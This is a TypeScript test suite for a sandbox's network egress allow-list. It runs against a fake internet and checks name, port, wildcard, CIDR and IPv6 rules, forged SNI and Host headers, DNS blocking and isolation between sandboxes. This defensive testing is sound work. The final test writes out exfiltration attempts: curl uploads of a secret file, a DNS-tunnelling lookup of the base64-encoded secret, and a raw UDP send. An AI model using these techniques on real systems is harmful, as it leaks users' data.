/**
 * allowNet end to end, against a fake internet in a network namespace (network-helpers.ts):
 * every entry form allows what it should and nothing else, forged SNI / Host headers and shared
 * addresses do not widen a list, outside resolvers are unreachable, setAllowNet takes effect.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { Client } from "atoll";
import { curl, served, tcpConnects, useNetworkDaemon } from "./network-helpers.js";

const ctx = useNetworkDaemon();

test("omitted allowNet: unrestricted egress over IPv4 and IPv6, names resolve, private ranges stay closed", async () => {
  await using sb = await ctx.client.createSandbox();
  assert.equal(served(await curl(sb, "http://example.com/")).local, "203.0.113.10");
  assert.equal(served(await curl(sb, "-k", "https://example.org/")).host, "example.org");
  assert.equal(served(await curl(sb, "-6", "http://example.org/")).local, "2001:db8::20");
  assert.ok(await tcpConnects(sb, "203.0.113.99", 7000), "any address and port");
  assert.ok(!(await tcpConnects(sb, "10.1.2.3", 80)), "private ranges are never reached without a rule");
  assert.ok(!(await tcpConnects(sb, "169.254.169.254", 80)), "link-local (cloud metadata) is closed");
});

test("allowNet []: no egress at all, and no name resolves", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: [] });
  const r = await curl(sb, "http://example.com/");
  assert.ok(!r.ok);
  assert.match(r.err, /Could not resolve host/);
  for (const [host, port] of [
    ["203.0.113.10", 80],
    ["203.0.113.10", 443],
    ["2001:db8::10", 80],
    ["203.0.113.99", 7000],
  ] as const) {
    assert.ok(!(await tcpConnects(sb, host, port)), `${host}:${port}`);
  }
  assert.deepEqual((await ctx.client.getSandbox(sb.id)).allowNet, []);
});

test("a host name allows that name on every port, over HTTP and HTTPS, and nothing else", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: ["example.com"] });
  assert.equal(served(await curl(sb, "http://example.com/a")).url, "/a");
  assert.equal(served(await curl(sb, "-k", "https://example.com/b")).local, "203.0.113.10");
  assert.ok(await tcpConnects(sb, "example.com", 7000), "example.com on another port");
  const other = await curl(sb, "http://example.org/");
  assert.match(other.err, /Could not resolve host/, "other names do not resolve");
  assert.ok(!(await curl(sb, "http://www.example.com/")).ok, "a subdomain is another name");
  assert.ok(!(await tcpConnects(sb, "203.0.113.99", 7000)), "unlisted address");
  assert.ok(!(await tcpConnects(sb, "203.0.113.20", 7000)), "example.org's address");
});

test("host:port allows only that port; direct access to the address on another port is blocked", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: ["example.com:443"] });
  assert.ok((await curl(sb, "-k", "https://example.com/")).ok);
  const http = await curl(sb, "-f", "http://example.com/");
  assert.ok(!http.ok, "port 80 is not in the list");
  assert.ok(!(await tcpConnects(sb, "example.com", 7000)), "port 7000 is not in the list");
  assert.ok(!(await tcpConnects(sb, "203.0.113.10", 7000)), "nor by address");
});

test("*.example.com matches subdomains at any depth but not the apex", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: ["*.example.com"] });
  assert.equal(served(await curl(sb, "http://www.example.com/")).local, "203.0.113.11");
  assert.equal(served(await curl(sb, "-k", "https://deep.sub.example.com/")).local, "203.0.113.13");
  assert.match((await curl(sb, "http://example.com/")).err, /Could not resolve host/);
});

test("IPv4 address, address:port and CIDR entries", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: ["203.0.113.99", "203.0.113.20:80", "198.51.100.0/24"] });
  assert.ok(await tcpConnects(sb, "203.0.113.99", 7000));
  assert.ok((await curl(sb, "http://203.0.113.99/")).ok);
  assert.ok((await curl(sb, "http://203.0.113.20/")).ok, "203.0.113.20:80");
  assert.ok(!(await tcpConnects(sb, "203.0.113.20", 7000)), "203.0.113.20 on another port");
  assert.ok(await tcpConnects(sb, "198.51.100.30", 7000), "inside the CIDR");
  assert.ok(!(await tcpConnects(sb, "203.0.113.10", 80)), "outside every entry");
  assert.match((await curl(sb, "http://example.com/")).err, /Could not resolve host/, "IP entries allow no names");
});

test("IPv6 entries: [addr]:port and CIDR; IPv6 of an allowed name", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: ["[2001:db8::20]:80", "2001:db8::99/128", "example.com"] });
  assert.equal(served(await curl(sb, "-g", "http://[2001:db8::20]/")).local, "2001:db8::20");
  assert.ok(!(await tcpConnects(sb, "2001:db8::20", 7000)));
  assert.ok(await tcpConnects(sb, "2001:db8::99", 7000));
  // Over IPv6 too; port 80 goes through the proxy, which dials example.com itself.
  assert.equal(served(await curl(sb, "-6", "http://example.com/")).host, "example.com");
  assert.ok(await tcpConnects(sb, "2001:db8::10", 7000), "example.com's IPv6 address on any port, once resolved");
});

test("forged SNI, forged Host and shared addresses do not widen the list", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: ["example.com", "cdn.example.net"] });
  // TLS to an allowed address with another name in the SNI: refused by the proxy.
  const sni = await curl(sb, "-k", "--resolve", "www.example.com:443:203.0.113.10", "https://www.example.com/");
  assert.ok(!sni.ok, "SNI www.example.com to example.com's address");
  // An allowed SNI sent to an unlisted address: the proxy dials example.com itself.
  assert.equal(served(await curl(sb, "-k", "--resolve", "example.com:443:203.0.113.99", "https://example.com/")).local, "203.0.113.10");
  // Plain HTTP with a forged Host header to an allowed (shared) address.
  const host = await curl(sb, "-f", "-H", "Host: example.org", "http://203.0.113.10/");
  assert.ok(!host.ok, "Host example.org on example.com's address");
  // Plain HTTP to an unlisted address with an allowed Host reaches the real example.com.
  assert.equal(served(await curl(sb, "-H", "Host: example.com", "http://203.0.113.99/")).local, "203.0.113.10");
  // No SNI at all (an IP literal over TLS): refused.
  assert.ok(!(await curl(sb, "-k", "https://203.0.113.10/")).ok);
});

test("DNS to an outside resolver is blocked; the sandbox's resolver answers only allowed names", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: ["example.com"] });
  const before = ctx.internet.dnsQueries.length;
  const query = `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\ns.sendto(bytes.fromhex("123401000001000000000000076578616d706c65036f72670000010001"), ("198.51.100.53", 53))\nprint(s.recv(512))`;
  assert.notEqual((await sb.sh`python3 -c ${query}`.stdout("null").stderr("null").noThrow()).status.code, 0);
  assert.equal(ctx.internet.dnsQueries.length, before, "no query reached the outside resolver");
  assert.match((await sb.sh`getent hosts example.com`.text()).trimEnd(), /^(2001:db8::10|203\.0\.113\.10)\s/);
  assert.notEqual((await sb.sh`getent hosts example.org`.noThrow()).status.code, 0);
});

test("setAllowNet changes a running sandbox's policy for new connections", async () => {
  await using sb = await ctx.client.createSandbox({ allowNet: [] });
  assert.ok(!(await curl(sb, "http://example.com/")).ok);
  await sb.setAllowNet(["example.com"]);
  assert.ok((await curl(sb, "http://example.com/")).ok);
  assert.ok(!(await curl(sb, "http://example.org/")).ok);
  assert.deepEqual((await sb.info()).allowNet, ["example.com"]);
  await sb.setAllowNet([]);
  assert.ok(!(await curl(sb, "http://example.com/")).ok);
  assert.ok(!(await tcpConnects(sb, "203.0.113.10", 7000)), "addresses admitted before are forgotten");
  await sb.setAllowNet(null);
  assert.ok((await curl(sb, "http://example.org/")).ok);
});

test("sandboxes cannot reach each other, even unrestricted", async () => {
  await using a = await ctx.client.createSandbox();
  // b's tenant may open private ranges (docs/tenants.md): the daemon's own range stays closed.
  const { token } = await ctx.client.admin.createToken({ tenant: "lan" });
  await ctx.client.admin.setNetAccess("lan", { open: ["private"] });
  const lan = new Client({ url: ctx.daemon.url, token });
  await using b = await lan.createSandbox({ allowNet: ["10.0.0.0/8"] });
  const server = await a.spawn("python3", { args: ["-m", "http.server", "8080"], stdout: "null", stderr: "null" });
  const addr = (await a.info()).network!.ipv4;
  let up = false;
  for (let i = 0; i < 50 && !up; i++) {
    up = (await a.sh`curl -s -o /dev/null http://127.0.0.1:8080/`.noThrow()).status.code === 0;
    if (!up) await new Promise((r) => setTimeout(r, 100));
  }
  assert.ok(up, "the server runs");
  assert.ok(!(await tcpConnects(b, addr, 8080)), "b → a, even with 10.0.0.0/8 in b's allowNet");
  const c = await ctx.client.createSandbox({ timeout: "5m" });
  try {
    assert.ok(!(await tcpConnects(c, addr, 8080)), "unrestricted c → a");
  } finally {
    await c.kill();
  }
  server.kill("SIGKILL");
});

test("a read-only volume's data cannot leave a sandbox with allowNet []", async () => {
  const volume = await ctx.client.createVolume({ name: "exfil-check", sizeGb: 0.0625 });
  try {
    await using writer = await ctx.client.createSandbox({ volumes: [{ id: volume.id, mountPath: "/data" }] });
    await writer.sh`echo top-secret-payload > /data/secret.txt`;
    await writer.kill();
    await using sb = await ctx.client.createSandbox({ allowNet: [], volumes: [{ id: volume.id, mountPath: "/data", accessMode: "ro" }] });
    const before = ctx.internet.requests.length;
    const dnsBefore = ctx.internet.dnsQueries.length;
    assert.ok(!(await curl(sb, "-T", "/data/secret.txt", "http://example.com/upload")).ok);
    assert.ok(!(await curl(sb, "-T", "/data/secret.txt", "http://203.0.113.10/upload")).ok);
    assert.ok(!(await curl(sb, "-6", "-T", "/data/secret.txt", "http://[2001:db8::10]/upload")).ok);
    await sb.sh`getent hosts "$(base64 -w0 /data/secret.txt | tr -d =).example.com"`.noThrow();
    const send = `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(open("/data/secret.txt","rb").read(), ("198.51.100.53", 53))`;
    await sb.sh`python3 -c ${send}`.noThrow();
    assert.ok(!(await tcpConnects(sb, "203.0.113.99", 7000)));
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(ctx.internet.requests.length, before, "no request reached the fake internet");
    assert.equal(ctx.internet.dnsQueries.length, dnsBefore, "no packet reached the outside resolver");
    await sb.kill();
  } finally {
    await ctx.client.deleteVolume(volume.id, { force: true });
  }
});
